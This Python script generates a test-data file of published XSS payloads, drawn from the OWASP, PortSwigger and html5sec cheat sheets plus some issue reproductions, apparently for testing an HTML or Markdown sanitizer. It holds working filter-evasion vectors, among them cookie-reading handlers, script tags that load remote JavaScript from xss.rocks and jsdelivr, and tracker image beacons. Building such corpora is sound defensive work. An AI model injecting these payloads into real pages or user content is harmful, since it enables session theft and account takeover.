# ruff: noqa: E501  (the vectors are quoted as published, one to a line)
"""Writes tests/data/xss_vectors.tsv: public XSS vectors, each with the cheat sheet it is from.

Run once when the list changes: python tests/data/make_xss_vectors.py. The vectors are the
published ones (OWASP's XSS Filter Evasion Cheat Sheet, PortSwigger's XSS cheat sheet, the
HTML5 Security Cheatsheet at html5sec.org) with alert(1) as the payload; PortSwigger's sheet is
a table of tags and events, so its part is made as that table is. Tabs and newlines inside a
vector are written as \\t and \\n.
"""

from __future__ import annotations

from pathlib import Path

OWASP = "OWASP XSS Filter Evasion Cheat Sheet (cheatsheetseries.owasp.org)"
PORTSWIGGER = "PortSwigger XSS cheat sheet (portswigger.net/web-security/cross-site-scripting/cheat-sheet)"
HTML5SEC = "HTML5 Security Cheatsheet (html5sec.org)"
ISSUE = "talk-notes issue 11 reproductions"

OWASP_VECTORS = [
    "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<SCRIPT/SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "</script><script>alert('XSS');</script>",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<IMG SRC=\"livescript:[code]\">",
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<LINK REL=\"stylesheet\" HREF=\"http://xss.rocks/xss.css\">",
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.rocks/xss.css>; REL=stylesheet\">",
    "<STYLE>BODY{-moz-binding:url(\"http://xss.rocks/xssmoz.xml#xss\")}</STYLE>",
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
    "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
    "<STYLE type=\"text/css\">BODY{background:url(\"javascript:alert('XSS')\")}</STYLE>",
    "<XSS STYLE=\"xss:expression(alert('XSS'))\">",
    "<XSS STYLE=\"behavior: url(xss.htc);\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=http://;URL=javascript:alert('XSS');\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
    "<DIV STYLE=\"background-image: url(&#1;javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert('XSS')\"></B></I></XML>",
    "<SPAN DATASRC=\"#xss\" DATAFLD=\"B\" DATAFORMATAS=\"HTML\"></SPAN>",
    "<HTML><BODY><?xml:namespace prefix=\"t\" ns=\"urn:schemas-microsoft-com:time\"><?import namespace=\"t\" implementation=\"#default#time2\"><t:set attributeName=\"innerHTML\" to=\"XSS<SCRIPT DEFER>alert(&quot;XSS&quot;)</SCRIPT>\"></BODY></HTML>",
    "<SCRIPT SRC=\"http://xss.rocks/xss.jpg\"></SCRIPT>",
    "<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT SRC=http://xss.rocks/xss.js></SCRIPT>'\"-->",
    "<? echo('<SCR)';echo('IPT>alert(\"XSS\")</SCRIPT>'); ?>",
    "<IMG SRC=\"http://www.thesiteyouareon.com/somecommand.php?somevariables=maliciouscode\">",
    "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<SCRIPT>alert('XSS')</SCRIPT>\">",
    "<HEAD><META HTTP-EQUIV=\"CONTENT-TYPE\" CONTENT=\"text/html; charset=UTF-7\"> </HEAD>+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-",
    "<SCRIPT a=\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT =\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT a=\">\" '' SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT \"a='>'\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT a=`>` SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT a=\">'>\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT>document.write(\"<SCRI\");</SCRIPT>PT SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<A HREF=\"http://66.102.7.147/\">XSS</A>",
    "<A HREF=\"http://%77%77%77%2E%67%6F%6F%67%6C%65%2E%63%6F%6D\">XSS</A>",
    "<A HREF=\"http://1113982867/\">XSS</A>",
    "<A HREF=\"//www.google.com/\">XSS</A>",
    "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"  javascript:alert(1)\">x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"java&NewLine;script:alert(1)\">x</a>",
    "<a href=\"java&Tab;script:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "[a](javascript:alert(1))",
    "[a](JAVASCRIPT:alert(1))",
    "[a](javascript&#58;alert(1))",
    "[a](&#x6A;avascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](<javascript:alert(1)>)",
    "[a][r]\n\n[r]: javascript:alert(1)",
    "![a](javascript:alert(1))",
    "![a](https://tracker.example/p.png)",
    "![a](//tracker.example/p.png)",
    "<javascript:alert(1)>",
    "<http://tracker.example/\"onmouseover=\"alert(1)>",
]

ISSUE_VECTORS = [
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    "A sentence <!--><img src=x onerror=alert(1)>--> inline.",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></p></noscript>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></p></xmp>",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\"></p></textarea>",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\"></p></title>",
    "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\"></p></noembed>",
    "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\"></p></noframes>",
    "<svg><a><animate attributeName=\"href\" values=\"javascript:alert(1)\"/><text x=\"20\" y=\"20\">click</text></a></svg>",
    "<svg><a><set attributeName=\"xlink:href\" to=\"javascript:alert(1)\"/><text x=\"20\" y=\"20\">click</text></a></svg>",
    "[here](jav&Tab;ascript:alert(1))",
    "<span data-pagefind-filter=\"theme\" hidden>Injected</span>",
    "Text\n{: style=\"background:url(https://tracker.example/p.png)\"}",
    "Overview.\n\n<div hidden>",
]

HTML5SEC_VECTORS = [
    "<form id=\"test\"></form><button form=\"test\" formaction=\"javascript:alert(1)\">X</button>",
    "<meta charset=\"x-imap4-modified-utf7\">&ADz&AGn&AG0&AEf&ACA&AHM&AHI&AGO&AD0&AGn&ACA&AG8Abg&AGUAcgByAG8AcgA9AGEAbABlAHIAdAAoADEAKQ&ACAAPABi",
    "<input onfocus=alert(1) autofocus>",
    "<input onblur=alert(1) autofocus><input autofocus>",
    "<video poster=javascript:alert(1)//></video>",
    "<body onscroll=alert(1)><br><br><br><br><br><br>...<br><br><br><br><input autofocus>",
    "<form><button formaction=\"javascript:alert(1)\">X</button>",
    "<video><source onerror=\"alert(1)\">",
    "<iframe srcdoc=\"&lt;img src&equals;x:x onerror&equals;alert&lpar;1&rpar;&gt;\" />",
    "<math href=\"javascript:javascript:alert(1)\">CLICKME</math>",
    "<math><maction actiontype=\"statusline#http://google.com\" xlink:href=\"javascript:alert(1)\">CLICKME</maction></math>",
    "<frameset onload=alert(1)>",
    "<table background=\"javascript:alert(1)\"></table>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<comment><img src=\"</comment><img src=x onerror=alert(1)//\">",
    "<![><img src=\"]><img src=x onerror=alert(1)//\">",
    "<svg><![CDATA[><image xlink:href=\"]]><img src=x onerror=alert(1)//\"></svg>",
    "<style><img src=\"</style><img src=x onerror=alert(1)//\">",
    "<li style=list-style:url() onerror=alert(1)></li>",
    "<div style=content:url(data:image/svg+xml,%3Csvg/%3E);visibility:hidden onload=alert(1)></div>",
    "<head><base href=\"javascript://\"/></head><body><a href=\"/. /,alert(1)//#\">XXX</a></body>",
    "<SCRIPT FOR=document EVENT=onreadystatechange>alert(1)</SCRIPT>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></embed>",
    "<x style=\"behavior:url(#default#time2)\" onbegin=\"alert(1)\">",
    "<svg xmlns=\"http://www.w3.org/2000/svg\"><a xmlns:xlink=\"http://www.w3.org/1999/xlink\" xlink:href=\"javascript:alert(1)\"><rect width=\"1000\" height=\"1000\" fill=\"white\"/></a></svg>",
    "<svg><script xlink:href=data:,alert(1) />",
    "<svg><foreignObject><p><iframe onload=alert(1)></p></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">",
    "<a href=\"#\" id=\"x\" tabindex=\"1\" onfocus=\"alert(1)\">x</a>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<img src onerror /\" '\"= alt=alert(1)//\">",
    "<title onpropertychange=alert(1)></title><title title=></title>",
    "<a style=\"-o-link:'javascript:alert(1)';-o-link-source:current\">X</a>",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<portal src=javascript:alert(1)>",
    "<p popover id=x onbeforetoggle=alert(1)>x</p><button popovertarget=x>click</button>",
]

PS_TAGS = ["a", "abbr", "b", "blockquote", "body", "button", "code", "details", "div",
           "em", "img", "input", "kbd", "li", "marquee", "p", "pre", "select", "span", "summary",
           "svg", "table", "td", "textarea", "video", "audio", "xss", "iframe", "object"]
PS_EVENTS = ["onclick", "onmouseover", "onfocus", "onerror", "onload", "onanimationstart",
             "onpointerenter", "ontoggle", "onbeforecopy", "oncontextmenu"]
PS_CONTEXT = {
    "onfocus": " tabindex=1 autofocus", "onanimationstart": " style=\"animation-name:spin\"",
    "ontoggle": " open", "onerror": " src=x", "onload": " src=x",
}


def portswigger() -> list[str]:
    """PortSwigger's table: each tag with each event, as the sheet writes them."""
    return [f"<{tag} {event}=alert(1){PS_CONTEXT.get(event, '')}>test</{tag}>"
            for tag in PS_TAGS for event in PS_EVENTS]


def escape(text: str) -> str:
    return text.replace("\\", "\\\\").replace("\t", "\\t").replace("\n", "\\n")


def main() -> None:
    rows = [(ISSUE, v) for v in ISSUE_VECTORS] + [(OWASP, v) for v in OWASP_VECTORS] + \
        [(HTML5SEC, v) for v in HTML5SEC_VECTORS] + [(PORTSWIGGER, v) for v in portswigger()]
    lines = ["source\tvector"] + [f"{source}\t{escape(vector)}" for source, vector in rows]
    Path(__file__).with_name("xss_vectors.tsv").write_text("\n".join(lines) + "\n", "utf-8")
    print(f"{len(rows)} vectors")


if __name__ == "__main__":
    main()
